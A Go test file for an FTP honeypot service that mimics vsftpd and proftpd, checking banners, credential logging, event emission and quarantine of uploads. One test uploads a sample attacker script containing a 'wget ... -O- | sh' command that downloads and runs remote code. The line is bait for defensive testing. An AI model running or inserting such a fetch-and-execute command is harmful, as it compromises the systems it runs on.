package ftp_test

import (
	"bufio"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/internal/event"
	_ "github.com/decnet/decnet/internal/service/ftp"
	"github.com/decnet/decnet/internal/service/serve"
	"github.com/decnet/decnet/internal/service/servicetest"
	"github.com/decnet/decnet/internal/testenv"
)

func TestCurl(t *testing.T) {
	bin := testenv.RequireTool(t, "curl")
	cases := []struct {
		name, distro string
		config       map[string]any
		user, pass   string
		list         string // a directory listed after login
		file         string // a bait file downloaded
	}{
		{"vsftpd user", "debian", map[string]any{"users": []any{"alice:Passw0rd"}}, "alice", "Passw0rd", "/", "/notes.txt"},
		{"vsftpd anonymous", "ubuntu22", map[string]any{"anonymous": true}, "anonymous", "guest@example.com", "/pub/", "/pub/README"},
		{"proftpd user", "debian", map[string]any{"banner": "proftpd", "users": []any{"bob:letmein"}}, "bob", "letmein", "/backups/", "/%2Fetc/hostname"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			r := servicetest.Start(t, "ftp", 21, servicetest.Options{Distro: tc.distro, Config: tc.config})
			base := "ftp://" + r.HostPort(21)
			run := func(args ...string) string {
				t.Helper()
				out, err := exec.Command(bin, append([]string{"-sS", "--max-time", "20", "--user", tc.user + ":" + tc.pass}, args...)...).CombinedOutput()
				if err != nil {
					t.Fatalf("curl %v: %v\n%s", args, err, out)
				}
				return string(out)
			}
			list := run(base + tc.list)
			if !strings.Contains(list, "backups") && !strings.Contains(list, "README") && !strings.Contains(list, "db_backup_") {
				t.Errorf("listing of %s:\n%s", tc.list, list)
			}
			if got := run(base + tc.file); len(got) == 0 {
				t.Errorf("empty download of %s", tc.file)
			}
			upload := filepath.Join(t.TempDir(), "payload.sh")
			content := []byte("#!/bin/sh\nwget http://203.0.113.5/x -O- | sh\n" + tc.name)
			if err := os.WriteFile(upload, content, 0o600); err != nil {
				t.Fatal(err)
			}
			run("-T", upload, base+tc.list+"payload.sh")
			sum := sha256.Sum256(content)
			want := hex.EncodeToString(sum[:])
			if b, err := os.ReadFile(filepath.Join(r.QuarDir, want)); err != nil || string(b) != string(content) {
				t.Errorf("quarantine %s: %v", want, err)
			}
			e, ok := r.Events.Wait(5*time.Second, event.OfType("ftp.file.upload"))
			if !ok || e.Fields["sha256"] != want {
				t.Errorf("upload event = %+v", e)
			}
			e, ok = r.Events.Wait(5*time.Second, event.OfType("ftp.login.success"))
			if !ok || e.Credential == nil || e.Credential.SecretText != tc.pass || e.Credential.Principal != tc.user {
				t.Errorf("login event = %+v", e)
			}
			if _, ok := r.Events.Wait(5*time.Second, event.OfType("ftp.file.download")); !ok {
				t.Error("no download event")
			}
			if _, ok := r.Events.Wait(5*time.Second, func(e event.Event) bool {
				return e.Type == "ftp.command.input" && e.Fields["verb"] == "USER"
			}); !ok {
				t.Error("no command event for USER")
			}
		})
	}
}

func TestLFTP(t *testing.T) {
	bin := testenv.RequireTool(t, "lftp")
	t.Parallel()
	r := servicetest.Start(t, "ftp", 21, servicetest.Options{Distro: "debian", Config: map[string]any{"users": []any{"deploy:Summer2024!"}}})
	dir := t.TempDir()
	up := filepath.Join(dir, "up.bin")
	if err := os.WriteFile(up, []byte("lftp upload"), 0o600); err != nil {
		t.Fatal(err)
	}
	script := "set net:max-retries 1; set net:timeout 10; set ftp:passive-mode on; open -u deploy,Summer2024! -p " + r.Port(21) + " " + r.Addr.String() +
		"; pwd; ls; cd backups; ls; cd ..; get notes.txt -o " + filepath.Join(dir, "notes.txt") + "; put " + up + "; quit"
	out, err := exec.Command(bin, "-c", script).CombinedOutput()
	if err != nil {
		t.Fatalf("lftp: %v\n%s", err, out)
	}
	if !regexp.MustCompile(`db_backup_\d{8}\.sql\.gz`).Match(out) || !strings.Contains(string(out), "notes.txt") {
		t.Errorf("lftp output:\n%s", out)
	}
	if b, err := os.ReadFile(filepath.Join(dir, "notes.txt")); err != nil || !strings.Contains(string(b), "TODO") {
		t.Errorf("notes.txt: %q %v", b, err)
	}
	sum := sha256.Sum256([]byte("lftp upload"))
	if _, err := os.Stat(filepath.Join(r.QuarDir, hex.EncodeToString(sum[:]))); err != nil {
		t.Errorf("upload not quarantined: %v", err)
	}
}

func TestWrongPassword(t *testing.T) {
	bin := testenv.RequireTool(t, "curl")
	t.Parallel()
	r := servicetest.Start(t, "ftp", 21, servicetest.Options{Distro: "debian"})
	out, err := exec.Command(bin, "-sS", "-v", "--max-time", "20", "--user", "root:toor", "ftp://"+r.HostPort(21)+"/").CombinedOutput()
	if err == nil {
		t.Fatalf("login succeeded:\n%s", out)
	}
	for _, want := range []string{"< 220 (vsFTPd 3.0.3)", "< 331 Please specify the password.", "< 530 Login incorrect."} {
		if !strings.Contains(string(out), want) {
			t.Errorf("curl transcript lacks %q:\n%s", want, out)
		}
	}
	e, ok := r.Events.Wait(5*time.Second, event.OfType("ftp.login.failed"))
	if !ok || e.Credential == nil || e.Credential.SecretText != "toor" || e.Credential.Principal != "root" {
		t.Errorf("login event = %+v", e)
	}
}

func TestTranscript(t *testing.T) {
	t.Parallel()
	r := servicetest.Start(t, "ftp", 21, servicetest.Options{Distro: "debian", Config: map[string]any{"users": []any{"u:p"}}})
	c, err := net.Dial("tcp", r.HostPort(21))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	br := bufio.NewReader(c)
	read := func() string {
		t.Helper()
		l, err := br.ReadString('\n')
		if err != nil {
			t.Fatalf("read: %v", err)
		}
		return strings.TrimRight(l, "\r\n")
	}
	if got := read(); got != "220 (vsFTPd 3.0.3)" {
		t.Fatalf("banner %q", got)
	}
	steps := []struct{ send, want string }{
		{"SYST", "530 Please login with USER and PASS."},
		{"PASS x", "503 Login with USER first."},
		{"USER u", "331 Please specify the password."},
		{"PASS p", "230 Login successful."},
		{"PWD", `257 "/home/u" is the current directory`},
		{"SYST", "215 UNIX Type: L8"},
		{"TYPE I", "200 Switching to Binary mode."},
		{"CWD /root", "550 Failed to change directory."},
		{"CWD /etc", "250 Directory successfully changed."},
		{"PORT 8,8,8,8,4,1", "500 Illegal PORT command."},
		{"EPRT |1|198.51.100.7|2000|", "500 Illegal PORT command."},
		{"LIST", "425 Use PORT or PASV first."},
		{"RETR /nonexistent", "550 Failed to open file."},
		{"SIZE passwd", ""},
		{"XYZZY", "500 Unknown command."},
		{"QUIT", "221 Goodbye."},
	}
	for _, st := range steps {
		if _, err := c.Write([]byte(st.send + "\r\n")); err != nil {
			t.Fatal(err)
		}
		got := read()
		if st.want == "" {
			if !strings.HasPrefix(got, "213 ") {
				t.Errorf("%s: %q", st.send, got)
			}
			continue
		}
		if got != st.want {
			t.Errorf("%s: got %q, want %q", st.send, got, st.want)
		}
	}
}

// startRealVsftpd runs Debian's vsftpd in the foreground on a loopback
// port with max_per_ip set, and returns its address.
func startRealVsftpd(t *testing.T, maxPerIP int) string {
	t.Helper()
	bin := testenv.RequireTool(t, "/usr/sbin/vsftpd")
	testenv.RequireRoot(t)
	if err := os.MkdirAll("/var/run/vsftpd/empty", 0o755); err != nil {
		t.Fatal(err)
	}
	lo := netip.MustParseAddr("127.0.0.1")
	port := testenv.FreePort(t, lo)
	conf := filepath.Join(t.TempDir(), "vsftpd.conf")
	os.WriteFile(conf, []byte(fmt.Sprintf("listen=YES\nlisten_address=127.0.0.1\nlisten_port=%d\nbackground=NO\n"+
		"max_per_ip=%d\nanonymous_enable=NO\nlocal_enable=YES\nsecure_chroot_dir=/var/run/vsftpd/empty\npam_service_name=vsftpd\n",
		port, maxPerIP)), 0o600)
	addr := netip.AddrPortFrom(lo, port).String()
	testenv.StartDaemon(t, "vsftpd", exec.Command(bin, conf), testenv.Dialable(addr))
	return addr
}

// greeted opens a connection that got its 220, so that it counts against
// the limits, retrying while a readiness probe may hold the only slot.
func greeted(t *testing.T, addr string) {
	t.Helper()
	testenv.Eventually(t, 5*time.Second, "a greeted connection", func() bool {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			return false
		}
		c.SetReadDeadline(time.Now().Add(3 * time.Second))
		b := make([]byte, 3)
		if n, _ := c.Read(b); string(b[:n]) != "220" {
			c.Close()
			return false
		}
		t.Cleanup(func() { c.Close() })
		return true
	})
}

// TestOverLimitLikeRealVsftpd: past the per-address limit the decky
// answers as vsftpd past max_per_ip does.
func TestOverLimitLikeRealVsftpd(t *testing.T) {
	real := startRealVsftpd(t, 1)
	r := servicetest.Start(t, "ftp", 21, servicetest.Options{Distro: "debian",
		Limits: serve.Limits{PerSource: 1, Total: 16, Idle: time.Minute, Life: time.Minute}})
	greeted(t, real)
	greeted(t, r.HostPort(21))
	want, wantClosed := testenv.Converse(t, real, nil, 2*time.Second)
	got, gotClosed := testenv.Converse(t, r.HostPort(21), nil, 2*time.Second)
	t.Logf("over the limit: vsftpd %q (closed %v), decky %q (closed %v)", want, wantClosed, got, gotClosed)
	if string(want) != string(got) || wantClosed != gotClosed {
		t.Errorf("over the limit: decky %q, vsftpd %q", got, want)
	}
}
